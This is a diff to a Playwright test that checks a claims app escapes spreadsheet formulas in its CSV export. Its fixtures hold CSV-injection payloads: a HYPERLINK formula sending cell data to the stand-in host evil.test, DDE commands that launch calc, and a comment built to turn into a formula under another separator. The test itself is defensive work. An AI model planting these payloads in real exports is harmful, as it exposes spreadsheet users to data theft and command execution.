@@ -1,12 +1,15 @@
 import { readFileSync } from 'node:fs';
 import { request as playwrightRequest } from '@playwright/test';
+import { parse } from 'csv-parse/sync';
 import { api, pdfBytes } from '../support/api';
 import { DEMO_PASSWORD, demo, expect, signIn, test } from '../support/fixtures';
 
 /**
- * Issue 12 §4, "safe claims export": a creditor files a claim whose reference and comment are spreadsheet
+ * The safe claims export: a creditor files a claim whose reference, comment and file name are spreadsheet
  * formulas; the trustee exports the claims list for Excel. Every such cell starts with ' in the file, so
- * the spreadsheet shows it as text instead of running it. A fresh case: the demo data stays as it is.
+ * the spreadsheet shows it as text instead of running it, and so does every part of a cell after a `,`,
+ * `;` or tab: English Excel reads the file with `,` as its separator. A fresh case: the demo data stays
+ * as it is.
  */
 
 const run = Date.now().toString(36);
@@ -15,6 +18,28 @@ const FORMULA = '=HYPERLINK("http://evil.test/?d="&A1,"Öppna")';
 /** A file name keeps no '/', so the command stays short. */
 const COMMAND = "+cmd|'calc'!A0";
 const SUM = '@SUM(1+1)*cmd|calc';
+/** A comment that is harmless read with `;` and a formula read with `,`, unless neutralised. */
+const HIDDEN = `Evil AB,=2+5,;${SUM}`;
+
+/** A spreadsheet runs a cell whose first character past white space and quotes is one of these. */
+const FORMULA_CELL = /^[\s"]*[=+\-@]/;
+const OPTIONS = {
+  bom: true,
+  relax_quotes: true,
+  relax_column_count: true,
+  record_delimiter: ['\r\n', '\n', '\r'],
+};
+
+/** The cells of `text` read with `delimiter`; a quote nothing closes reads to the end, as a spreadsheet does. */
+function cellsOf(text: string, delimiter: string, quotes: boolean): string[] {
+  const options = { ...OPTIONS, delimiter, ...(quotes ? {} : { quote: false }) };
+  try {
+    return (parse(text, options) as string[][]).flat();
+  } catch (error) {
+    if ((error as { code?: string }).code !== 'CSV_QUOTE_NOT_CLOSED') throw error;
+    return (parse(`${text}"`, options) as string[][]).flat();
+  }
+}
 
 async function prepare(apiURL: string): Promise<number> {
   const context = await playwrightRequest.newContext({ baseURL: apiURL });
@@ -54,7 +79,7 @@ async function prepare(apiURL: string): Promise<number> {
       ClaimAmount: '10',
       ClaimBasis: 'SupplierInvoice',
       ClaimRefernce: FORMULA,
-      Invoicecomment: SUM,
+      Invoicecomment: HIDDEN,
       File: { name: `${COMMAND}.pdf`, mimeType: 'application/pdf', buffer: pdfBytes('formula') },
     },
   });
@@ -70,12 +95,13 @@ test('the claims export writes formula-like cells as text', async ({ page, porta
   await expect(panel.getByRole('listitem')).toHaveCount(1);
   const exporting = page.waitForEvent('download');
   await panel.getByRole('button', { name: 'Export (CSV)' }).click();
-  const text = readFileSync(await (await exporting).path())
-    .subarray(3)
-    .toString('utf8');
-  const cells = text.split('\r\n')[1]?.split(';') ?? [];
+  const text = readFileSync(await (await exporting).path()).toString('utf8');
+  const rows: string[][] = parse(text, { bom: true, delimiter: ';' });
+  const cells = rows[1] ?? [];
   expect(cells[0]).toBe(`'${COMMAND}.pdf`);
-  expect(cells[6]).toBe(`"'${FORMULA.replace(/"/g, '""')}"`);
-  expect(cells[11]).toBe(`'${SUM}`);
-  for (const cell of cells) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
+  expect(cells[6]).toBe(`'${FORMULA}`);
+  expect(cells[11]).toBe(`Evil AB,'=2+5,;'${SUM}`);
+  for (const delimiter of [';', ','])
+    for (const quotes of [true, false])
+      expect(cellsOf(text, delimiter, quotes).filter((cell) => FORMULA_CELL.test(cell))).toEqual([]);
 });
